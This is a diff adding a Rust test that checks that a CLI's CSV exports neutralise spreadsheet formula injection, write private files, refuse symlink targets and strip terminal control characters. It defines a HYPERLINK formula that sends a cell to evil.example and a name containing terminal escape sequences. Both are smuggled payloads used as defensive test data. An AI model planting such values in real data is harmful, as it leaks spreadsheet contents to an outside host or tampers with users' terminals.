@@ -175,3 +175,117 @@ async fn bad_exports_exit_2_and_leave_the_file_alone() {
     let names: Vec<_> = std::fs::read_dir(out.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
     assert_eq!(names, ["kept.csv"], "no temporary file left");
 }
+
+/// A name a spreadsheet would run as a formula that sends the row away.
+const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"Acme Member")"#;
+/// The first characters a spreadsheet reads as a formula.
+const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+async fn rename(h: &Harness, email: &str, name: &str) {
+    let emu = h.emu.as_ref().unwrap();
+    let renamed = reqwest::Client::new()
+        .post(emu.control_url("users/rename"))
+        .header(zenml_pro_emulator::CONTROL_HEADER, emu.control_token())
+        .json(&json!({"email": email, "name": name}))
+        .send()
+        .await
+        .unwrap();
+    assert!(renamed.status().is_success(), "{}", renamed.status());
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::symlink_metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+/// CSV is safe to open: a member named with a HYPERLINK formula comes out with a `'` in front, no
+/// cell of the file begins with a trigger, and the file is the user's alone (0600, also when it
+/// replaced a file readable by others); `--raw` gives the formula back verbatim; a symbolic link at
+/// the target is refused and the file it points to is left as it was; CSV on a terminal holds no
+/// control character.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_is_neutralised_the_file_is_private_and_a_link_is_not_followed() {
+    let h = Harness::start().await;
+    rename(&h, MEMBER, FORMULA).await;
+    h.login_and_sync("multi_org").await;
+    let out = tempfile::tempdir().unwrap();
+    let file = out.path().join("members.csv");
+    let path = file.to_str().unwrap();
+    let export = ["--org", "acme-ml", "export", "members", "--format", "csv", "-o", path];
+
+    let text = export_to(&h, &file, &export[..export.len() - 2]).await;
+    let records = parse(&text).unwrap();
+    assert!(records.len() > 3, "{text}");
+    for r in &records {
+        for cell in r {
+            assert!(!cell.starts_with(TRIGGERS), "a cell begins with a trigger: {cell:?}");
+        }
+    }
+    let (_, rows) = read_csv(&text);
+    let member = rows.iter().find(|r| r["email"] == MEMBER).expect("the member");
+    assert_eq!(member["name"], format!("'{FORMULA}"), "neutralised, the formula kept as text");
+    assert!(!text.contains(&format!(",{}", FORMULA.replace('"', "\"\""))), "never bare: {text}");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        assert_eq!(mode(&file), 0o600, "a new file is the user's alone");
+        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
+    }
+
+    // --raw: for machines, the formula verbatim; replacing the 0644 file leaves a 0600 one.
+    let raw = h.run(&[&export[..], &["--raw"]].concat()).await.ok();
+    assert!(raw.err.contains("Wrote the members export"), "{raw:?}");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let (_, rows) = read_csv(&text);
+    let member = rows.iter().find(|r| r["email"] == MEMBER).expect("the member");
+    assert_eq!(member["name"], FORMULA, "--raw keeps the cell as it is");
+    #[cfg(unix)]
+    assert_eq!(mode(&file), 0o600, "a replaced file is the user's alone");
+    let names: Vec<_> = std::fs::read_dir(out.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
+    assert_eq!(names, ["members.csv"], "no temporary file left");
+
+    // The access review's CSV (stdout) and the people export are neutralised the same way.
+    let people = h.run(&["--org", "acme-ml", "export", "people", "--format", "csv"]).await.ok();
+    let (_, rows) = read_csv(&people.out);
+    assert!(rows.iter().any(|r| r["name"] == format!("'{FORMULA}")), "{}", people.out);
+    let people = h.run(&["--org", "acme-ml", "export", "people", "--format", "csv", "--raw"]).await.ok();
+    assert!(read_csv(&people.out).1.iter().any(|r| r["name"] == FORMULA), "{}", people.out);
+
+    // A symbolic link at the target: refused, and what it points to is unchanged.
+    #[cfg(unix)]
+    {
+        let precious = out.path().join("precious.txt");
+        std::fs::write(&precious, "keep me").unwrap();
+        let before = mode(&precious);
+        let link = out.path().join("link.csv");
+        std::os::unix::fs::symlink(&precious, &link).unwrap();
+        let r = h
+            .run(&["--org", "acme-ml", "export", "members", "--format", "csv", "-o", link.to_str().unwrap()])
+            .await;
+        assert_eq!(r.code, EXIT_INVALID_INPUT, "{r:?}");
+        assert!(r.err.contains("symbolic link"), "{r:?}");
+        assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
+        assert_eq!(mode(&precious), before, "not chmod-ed");
+        assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
+        let mut names: Vec<_> = std::fs::read_dir(out.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().into_string().unwrap())
+            .collect();
+        names.sort();
+        assert_eq!(names, ["link.csv", "members.csv", "precious.txt"], "no temporary file left");
+    }
+
+    // On a terminal, CSV loses its cells' control characters; the records stay one a line.
+    rename(&h, MEMBER, "Evil\u{1b}]0;owned\u{7}\nName\tX").await;
+    h.run(&["sync"]).await.ok();
+    let piped = h.run(&["--org", "acme-ml", "export", "members", "--format", "csv"]).await.ok();
+    assert!(piped.out.contains("Evil\u{1b}]0;owned\u{7}\nName\tX"), "a pipe gets the file as it is");
+    let shown = h.run_on_terminal(&["--org", "acme-ml", "export", "members", "--format", "csv"]).await.ok();
+    assert!(!shown.out.replace("\r\n", "").chars().any(char::is_control), "{:?}", shown.out);
+    let (_, rows) = read_csv(&shown.out);
+    assert!(rows.iter().any(|r| r["name"] == "Evil]0;ownedNameX"), "{}", shown.out);
+    assert_eq!(rows.len(), read_csv(&piped.out).1.len(), "the same records");
+    let review = h.run_on_terminal(&["access-review", "--csv"]).await.ok();
+    assert!(!review.out.replace("\r\n", "").chars().any(char::is_control), "{:?}", review.out);
+}
